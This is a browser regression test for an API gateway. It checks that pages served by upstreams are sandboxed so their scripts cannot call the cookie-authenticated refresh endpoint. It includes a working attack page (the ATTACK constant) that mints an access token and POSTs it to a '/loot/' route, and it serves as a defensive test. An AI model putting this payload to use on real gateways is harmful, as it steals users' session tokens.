/**
 * fix-upstream-document-mints-tokens: a page an upstream serves on the gateway's origin (a
 * public route's docs, an upload, an error page with an injected script) ran as the gateway's
 * own origin: the cookie-carried auth endpoints admit that origin (a same-origin app needs
 * them to) and the `__Host-` refresh cookie goes with any same-origin request, so its script
 * called POST /auth/refresh and sent the access token it got anywhere. Every route's answers
 * now carry `Content-Security-Policy: sandbox` unless the route says `sandbox: false` (the
 * app's own pages): such a page runs in an opaque origin, without script.
 *
 * Real Chromium, cookie mode, the app on its own origin as the browser suites have it; the
 * user logs in on the app, then follows a link to a page on the gateway's origin.
 */
import t from 'tap'
import { requireBrowser, launchBrowser, newContext, openPage } from '../fixtures/browser.js'
import { baseConfig, makeKey, startGateway } from '../fixtures/gateway.js'
import { startUpstream } from '../fixtures/upstream.js'
import { call, ok, startCookieGateway, startSite, type Settled } from './helpers.js'

// the attacker's page: refresh as the gateway's origin, hand the token to its own route
const ATTACK = `<!doctype html><meta charset="utf-8"><title>docs</title><script>
  fetch('/auth/refresh', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' })
    .then((r) => r.json())
    .then((j) => fetch('/loot/' + (typeof j.access_token === 'string' ? 'token' : 'none'), { method: 'POST', body: String(j.access_token) }))
    .then(() => { document.title = 'done' }, (e) => { document.title = 'failed ' + e })
</script>`

if (requireBrowser(t)) {
  const upstream = await startUpstream((req, res) => {
    if (req.url.endsWith('/docs')) res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(ATTACK)
    else res.writeHead(200, { 'content-type': 'application/json' }).end('{"ok":true}')
  })
  t.teardown(() => upstream.close())
  const app = await startSite(t)
  const { gw, password } = await startCookieGateway(t, app, [
    { name: 'api', prefix: '/api', upstream: upstream.url, auth: 'required' },
    { name: 'open', prefix: '/open', upstream: upstream.url, auth: 'public' },
    { name: 'loot', prefix: '/loot', upstream: upstream.url, auth: 'public' },
    // a route that serves pages the operator trusts like the app's own
    { name: 'trusted', prefix: '/trusted', upstream: upstream.url, auth: 'public', sandbox: false },
  ])
  const browser = await launchBrowser(t)

  t.test('a page on a sandboxed route cannot mint a token; one on a `sandbox: false` route can', async (t) => {
    const context = await newContext(browser)
    const tab = await openPage(context, `${app.origin}/?gateway=${encodeURIComponent(gw.url)}`, 'globalThis.harness !== undefined')
    ok(t, await call<Settled<void>>(tab, 'login', 'alice', password), 'the user logs in on the app')

    const sandboxed = await context.newPage()
    const answer = await sandboxed.goto(`${gw.url}/open/docs`)
    t.equal(answer?.headers()['content-security-policy'], 'sandbox', 'the public route\'s page is sandboxed (the default)')

    // the control: the same page where the operator trusts the route's pages runs as the
    // gateway's origin — what the app's own route needs, and what the sandbox takes away
    const trusted = await context.newPage()
    const trustedAnswer = await trusted.goto(`${gw.url}/trusted/docs`)
    t.equal(trustedAnswer?.headers()['content-security-policy'], undefined, 'sandbox: false adds no policy')
    await trusted.waitForFunction('document.title !== "docs"', undefined, { timeout: 10_000 })
    t.equal(await trusted.title(), 'done', 'the trusted page ran')
    const loot = upstream.requests.filter((r) => r.url.startsWith('/loot/'))
    t.same(loot.map((r) => r.url), ['/loot/token'], 'one token was minted — by the trusted page, the sandboxed one (loaded first) sent nothing')
    t.equal(await sandboxed.title(), 'docs', 'the sandboxed page\'s script never ran')

    // the app itself is untouched: its calls still work
    const res = ok(t, await call<Settled<{ status: number }>>(tab, 'fetch', '/api/items'), 'the app keeps working')
    t.equal(res.status, 200)
    await context.close()
  })

  t.test('every answer of a sandboxed route carries the policy, beside the upstream\'s own', async (t) => {
    const json = await fetch(`${gw.url}/open/x`)
    t.equal(json.headers.get('content-security-policy'), 'sandbox', 'a JSON answer too (a browser sniffs documents)')
    const withOwn = await startUpstream((_req, res) => { res.writeHead(200, { 'content-type': 'text/html', 'content-security-policy': "default-src 'self'" }).end('<p>hi</p>') })
    t.teardown(() => withOwn.close())
    const both = await startGateway(t, baseConfig(makeKey('EdDSA'), [{ name: 'own', prefix: '/own', upstream: withOwn.url, auth: 'public' }]))
    const res = await fetch(`${both.url}/own/page`)
    t.equal(res.headers.get('content-security-policy'), "default-src 'self', sandbox", 'the upstream\'s policy and the sandbox: a browser enforces both')
  })
}
